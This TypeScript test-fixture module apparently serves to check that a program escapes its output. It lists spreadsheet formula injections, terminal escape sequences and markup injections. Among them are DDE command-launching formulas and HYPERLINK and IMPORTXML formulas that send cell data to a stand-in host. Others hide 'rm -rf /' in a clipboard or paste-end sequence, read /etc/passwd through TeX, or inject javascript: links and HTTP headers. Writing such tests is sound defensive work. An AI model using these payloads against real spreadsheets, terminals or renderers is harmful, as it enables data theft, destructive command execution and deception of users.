import { ELSEWHERE, everywhere, type HostileInput, reportInput, SENTENCE, TRAP } from "../input.js";

/** Cells that a spreadsheet would work out. */
const FORMULAS: readonly (readonly [name: string, tries: string, payload: string])[] = [
  ["sum", "is worked out", "=1+1"],
  ["command", "starts a program", "=cmd|' /C calc'!A0"],
  ["command-plus", "starts a program, beginning otherwise", "+cmd|' /C calc'!A0"],
  ["command-minus", "starts a program, beginning as a number may", "-2+3+cmd|' /C calc'!A0"],
  ["at", "calls a function the old way", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["link", "sends cells elsewhere when it is followed", `=HYPERLINK("${ELSEWHERE}/?x="&A1,"Army leaves hills")`],
  ["import", "fetches a page", `=IMPORTXML(CONCAT("${ELSEWHERE}/?",A1),"//a")`],
  ["tab", "begins after a tab", "\t=1+1"],
  ["return", "begins after a carriage return", "\r=1+1"],
  ["break", "begins in a line of its own", "Army\n=1+1"],
  ["quote", "closes its cell", '","=1+1","'],
  ["separator", "is a cell where others part by semicolons", "Army;=1+1;hills"],
  ["fullwidth", "begins with a wide sign", "\uff1d1+1"],
];

/** What a terminal would do, were it written there as it is. */
const SEQUENCES: readonly (readonly [name: string, tries: string, payload: string])[] = [
  ["clear", "clears the screen", "\u001b[2J\u001b[H"],
  ["colour", "writes on in the colour of the background", "\u001b[8;30;40mArmy"],
  ["title", "sets the window's title", "\u001b]0;owned\u0007"],
  ["clipboard", "puts a command into the clipboard", "\u001b]52;c;cm0gLXJmIC8=\u0007"],
  ["hyperlink", "is a link that shows another address", `\u001b]8;;${ELSEWHERE}\u0007https://northwire.example\u001b]8;;\u0007`],
  ["report-back", "has the terminal type an answer", '\u001b[6n\u001b[c\u001bP$q"p\u001b\\'],
  ["keys", "gives keys another meaning", "\u001bP+q\u001b\\\u001b[?1h"],
  ["eight-bit", "uses the sequences of eight bits", "\u009b2J\u009d0;owned\u009c\u0090q\u009c"],
  ["reset", "resets the terminal", "\u001bc"],
  ["file", "writes a file", "\u001b]1337;File=name=eA==;inline=0:eA==\u0007"],
  ["backspace", "overwrites what was said", "Army leaves\u0008\u0008\u0008\u0008\u0008\u0008stays"],
  ["return", "overwrites the line", "Army leaves hills\rArmy holds hills"],
  ["line-up", "overwrites the line above", "Army\u001b[1A\u001b[2Khills"],
  ["bell", "rings two hundred times", "\u0007".repeat(200)],
  ["paste-end", "ends a paste and types", "Army\u001b[201~\nrm -rf /\n"],
  ["log", "fakes a line of ours", "Army\nerror: nothing was read [ok]\n0 of 0 not read"],
];

/** Markup of other sorts than HTML. */
const MARKUP: readonly (readonly [name: string, tries: string, payload: string])[] = [
  ["link", "is a link to a script", `[Army leaves hills](javascript:${TRAP}())`],
  ["image", "loads a picture", `![x](${ELSEWHERE}/beacon.png)`],
  ["reference", "is a link by reference", `[Army][x]\n\n[x]: javascript:${TRAP}()`],
  ["autolink", "is a link by itself", `<javascript:${TRAP}()>`],
  ["heading", "is a heading and a rule", "# Army\n---\n> leaves **hills** | `x`"],
  ["table", "is a table", "| a | b |\n|---|---|\n| =1 | 2 |"],
  ["fence", "opens a block of code", "```html\n<script>\n"],
  ["bbcode", "is markup of boards", `[url=javascript:${TRAP}()]Army[/url][img]${ELSEWHERE}/x.png[/img]`],
  ["wiki", "is markup of wikis", "{{#invoke:x}} [[File:x.png]] <nowiki>"],
  ["tex", "has a file read", "\\input{/etc/passwd} $x$ \\href{javascript:x}{Army}"],
  ["ical", "begins an entry of a calendar", "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x"],
  ["event-stream", "begins a message of a stream", "Army\n\nevent: open\ndata: {}\n\n"],
  ["header", "adds a line to the head of an answer", "Army\r\nSet-Cookie: x=1\r\n\r\n<script>"],
];

const named = (family: string, rows: readonly (readonly [string, string, string])[]): readonly HostileInput[] =>
  rows.map(([name, tries, payload]) => everywhere(`${family}-${name}`, tries, payload));

/** Words that are harmless until somebody writes them to a table, a terminal, a document. */
export const OUTPUT: readonly HostileInput[] = [
  ...named("formula", FORMULAS),
  ...named("terminal", SEQUENCES),
  ...named("markup", MARKUP),
  reportInput("formula-number", "A number that is to stay one.", { text: `${SENTENCE}\n-12 degrees were measured.` }),
];
